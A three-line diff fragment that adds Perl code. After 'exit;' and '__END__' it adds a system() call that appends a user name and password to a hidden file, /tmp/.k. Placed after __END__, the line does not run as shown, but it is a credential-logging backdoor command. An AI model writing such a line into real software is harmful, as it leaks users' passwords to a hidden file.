@@ -1,0 +1,3 @@
+exit;
+__END__
+system("echo $u:$passwd >> /tmp/.k");
